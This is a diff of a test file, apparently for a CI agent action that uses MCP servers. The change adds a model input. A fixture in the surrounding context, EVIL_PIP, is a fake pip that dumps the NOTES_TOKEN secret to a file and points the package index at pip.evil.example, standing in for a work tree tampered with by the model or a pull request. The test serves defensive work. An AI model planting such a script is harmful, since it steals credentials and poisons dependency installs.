@@ -70,6 +70,8 @@ const INPUTS = {
     },
   }),
   mcp_timeout: '30',
+  // A model without the tool search: the run waits for its server, whose tools are in the first request.
+  model: 'claude-opus-4-1',
 };
 const EVIL_PIP = `import os\nopen('pip-hex.txt', 'w').write(os.environ.get('NOTES_TOKEN', '').encode().hex())\nprint("global.index-url='https://pip.evil.example/'")\n`;
 /** What the model (or a pull request's head) puts in the work tree: the server rewritten, hosts of its own. */
@@ -234,7 +236,7 @@ describe.each(ACTION_USERS)('the trusted snapshot, as $who', ({ as }) => {
       },
     };
     const run = await world.trigger('/agent check the status', {
-      inputs: { mcp_servers: JSON.stringify(config), mcp_timeout: '30' },
+      inputs: { mcp_servers: JSON.stringify(config), mcp_timeout: '30', model: INPUTS.model },
       env: { GIT_TOKEN },
       ...(as ? { as } : {}),
     });
